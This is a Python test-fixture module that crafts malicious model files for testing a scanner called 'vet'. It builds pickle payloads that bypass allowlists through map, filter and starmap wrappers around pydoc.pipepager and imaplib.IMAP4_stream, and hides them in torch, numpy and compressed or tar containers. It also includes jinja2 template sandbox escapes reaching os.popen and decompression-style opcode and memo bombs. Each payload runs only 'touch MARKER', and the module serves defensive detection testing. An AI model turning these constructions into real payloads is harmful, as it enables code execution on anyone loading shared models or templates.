"""Crafted artifacts for attacks that once got past vet (issue 10, findings 8, 9 and 11).

Every payload is harmless: it runs ``touch MARKER`` in the folder it is loaded from. They are real:
``test_payloads_really_run`` loads each one with the loader it targets (``pickle.load``, ``torch.load``,
``numpy.load``, after gunzip/bunzip/untar as the loaders do) in a child process and sees the marker.
Used by ``tests/adversarial`` and by ``bench/vet.py``.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

MARKER = "MARKER"
CMD = f"touch {MARKER}"

PROTO2, PROTO4, STOP, MARK = b"\x80\x02", b"\x80\x04", b".", b"("
TUPLE1, TUPLE3, REDUCE, NEWOBJ, EMPTY_LIST, APPEND, LIST = b"\x85", b"\x87", b"R", b"\x81", b"]", b"a", b"l"
STACK_GLOBAL, MEMOIZE, FRAME = b"\x93", b"\x94", b"\x95"


def u(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0-3 spelling)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def lst(*items: str) -> bytes:
    return MARK + b"".join(u(i) for i in items) + LIST


def higher_order(
    wrapper: tuple[str, str], callee: tuple[str, str], args: bytes, consumer: str = "list"
) -> bytes:
    """``consumer(wrapper(callee, *args))`` with NEWOBJ, protocol 2: the wrapper only stores the callee,
    the allowlisted consumer iterates it and so calls the callee. ``args`` is the pickled argument list."""
    return (
        PROTO2
        + glob("builtins", consumer)
        + glob(*wrapper)
        + MARK
        + glob(*callee)
        + args
        + b"t"
        + NEWOBJ
        + TUPLE1
        + REDUCE
        + STOP
    )


def map_pipepager() -> bytes:
    """list(map(pydoc.pipepager, ['x'], ['touch MARKER'])): the reproduction in the issue."""
    return higher_order(("builtins", "map"), ("pydoc", "pipepager"), lst("x") + lst(CMD))


def filter_imap_stream() -> bytes:
    """tuple(filter(imaplib.IMAP4_stream, ['touch MARKER'])): IMAP4_stream runs its argument in a shell."""
    return higher_order(("builtins", "filter"), ("imaplib", "IMAP4_stream"), lst(CMD), consumer="tuple")


def starmap_pipepager() -> bytes:
    """list(itertools.starmap(pydoc.pipepager, [('x', 'touch MARKER')]))."""
    pairs = MARK + MARK + u("x") + u(CMD) + b"t" + LIST
    return higher_order(("itertools", "starmap"), ("pydoc", "pipepager"), pairs)


def map_pipepager_protocol4() -> bytes:
    """The map payload as protocol 4 writes it: FRAME, STACK_GLOBAL names, MEMOIZE (pytorch_model.bin)."""

    def sg(module: str, name: str) -> bytes:
        return u(module) + MEMOIZE + u(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE

    body = (
        sg("builtins", "list")
        + sg("builtins", "map")
        + sg("pydoc", "pipepager")
        + EMPTY_LIST
        + MEMOIZE
        + u("x")
        + APPEND
        + EMPTY_LIST
        + MEMOIZE
        + u(CMD)
        + APPEND
        + TUPLE3
        + MEMOIZE
        + NEWOBJ
        + MEMOIZE
        + TUPLE1
        + REDUCE
        + MEMOIZE
        + STOP
    )
    return PROTO4 + FRAME + struct.pack("<Q", len(body)) + body


def proto0_pipepager() -> bytes:
    """Protocol 0 (text only, no magic): pydoc.pipepager('x', 'touch MARKER')."""
    return glob("pydoc", "pipepager") + b"(S'x'\nS'" + CMD.encode() + b"'\ntR."


def odd_archive_zip(clean: Path, dst: Path, payload: bytes, archive: str = "0dd n@me") -> Path:
    """A real torch.save zip with every member moved under ``archive`` and ``data.pkl`` replaced."""
    with zipfile.ZipFile(clean) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            _, _, rest = info.filename.partition("/")
            data = payload if rest == "data.pkl" else zin.read(info)
            zout.writestr(zipfile.ZipInfo(f"{archive}/{rest}"), data)
    return dst


def object_npy(payload: bytes) -> bytes:
    """An .npy header for a (1,) object array followed by ``payload``: numpy.load unpickles it."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def tar_with(name: str, payload: bytes) -> bytes:
    """An uncompressed tar holding ``payload`` as member ``name`` (legacy torch.save used tar)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        info = tarfile.TarInfo(name)
        info.size = len(payload)
        tf.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


def opcode_bomb_zip(dst: Path, ops: int = 20_000_000) -> Path:
    """A torch zip whose deflated data.pkl is ``ops`` opcodes (NONE, POP pairs): ~20 KB on disk."""
    body = b"N0" * (ops // 2)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("archive/data.pkl", PROTO2 + body + b"N.")
        z.writestr("archive/version", b"3\n")
    return dst


def memo_bomb_pickle(entries: int = 5_000_000) -> bytes:
    """A pickle that memoises the same value ``entries`` times under distinct keys."""
    return PROTO4 + b"N" + b"".join(b"r" + struct.pack("<I", i) for i in range(entries)) + b"."


#: Chat templates that run a shell command when rendered in a plain jinja2.Environment (proved in
#: tests/adversarial/test_vet_template_reach.py), with the code vet fails them with.
TEMPLATE_ATTACKS = {
    "computed_dunder.jinja": (
        "{% set d = '_' ~ '_' %}{% set g = cycler[d ~ 'init' ~ d][d ~ 'globals' ~ d] %}"
        "{{ g['os'].popen('touch MARKER').read() }}",
        "TEMPLATE_COMPUTED_ACCESS",
    ),
    "attr_filter.jinja": (
        "{% set d = '_' ~ '_' %}{{ (cycler|attr(d ~ 'init' ~ d)|attr(d ~ 'globals' ~ d))['os']"
        ".popen('touch MARKER').read() }}",
        "TEMPLATE_COMPUTED_ACCESS",
    ),
    "map_attribute.jinja": (
        "{% set d = '_' ~ '_' %}{% set p = d ~ 'init' ~ d ~ '.' ~ d ~ 'globals' ~ d %}"
        "{{ ([cycler]|map(attribute=p)|first)['os'].popen('touch MARKER').read() }}",
        "TEMPLATE_COMPUTED_ACCESS",
    ),
    "no_underscore_frame.jinja": (
        "{{ (messages|map('string')).gi_frame.f_builtins.exec(\"import os; os.popen('touch MARKER').read()\") }}",
        "TEMPLATE_DUNDER_ACCESS",
    ),
}


@dataclass(frozen=True)
class Attack:
    """One crafted file: its name, what it does, and how a loader runs it (for the live test)."""

    name: str
    attack: str
    loader: str  # "pickle" | "torch" | "numpy" | "gzip" | "bz2" | "xz" | "zlib" | "tar"
    finding: int  # issue 10 finding number


def build_attacks(root: Path, clean_torch_zip: Path | None = None) -> list[Attack]:
    """Write every crafted file under ``root``; torch-zip attacks need a real ``torch.save`` zip."""
    root.mkdir(parents=True, exist_ok=True)
    out: list[Attack] = []

    def add(name: str, data: bytes, attack: str, loader: str, finding: int) -> None:
        (root / name).write_bytes(data)
        out.append(Attack(name, attack, loader, finding))

    payload = map_pipepager()
    add("map_pipepager.pkl", payload, "list(map(pydoc.pipepager, ...)) via NEWOBJ", "pickle", 8)
    add("filter_imap.pkl", filter_imap_stream(), "tuple(filter(imaplib.IMAP4_stream, ...))", "pickle", 8)
    add(
        "starmap_pipepager.pkl",
        starmap_pipepager(),
        "list(itertools.starmap(pydoc.pipepager, ...))",
        "pickle",
        8,
    )
    add(
        "pytorch_model.bin",
        map_pipepager_protocol4(),
        "map payload, protocol 4, as pytorch_model.bin",
        "torch",
        8,
    )
    add("map_object.npy", object_npy(payload), "map payload inside an object .npy", "numpy", 8)
    if clean_torch_zip is not None:
        odd_archive_zip(clean_torch_zip, root / "odd_archive.pt", payload)
        out.append(Attack("odd_archive.pt", "map payload in a torch zip, archive '0dd n@me'", "torch", 8))
    add("model.sav", proto0_pipepager(), "protocol-0 pickle named .sav", "pickle", 9)
    add("model.pkl.gz", gzip.compress(payload), "gzip-wrapped pickle (.pkl.gz)", "gzip", 9)
    add("model.joblib", zlib.compress(payload), "zlib-wrapped pickle (joblib compress)", "zlib", 9)
    add("model.ckpt", bz2.compress(payload), "bz2-wrapped pickle named .ckpt", "bz2", 9)
    add("weights.xz", lzma.compress(payload), "xz-wrapped pickle", "xz", 9)
    add(
        "checkpoint.tar",
        tar_with("pickle", payload),
        "pickle inside a tar (legacy torch.save layout)",
        "tar",
        9,
    )
    return out
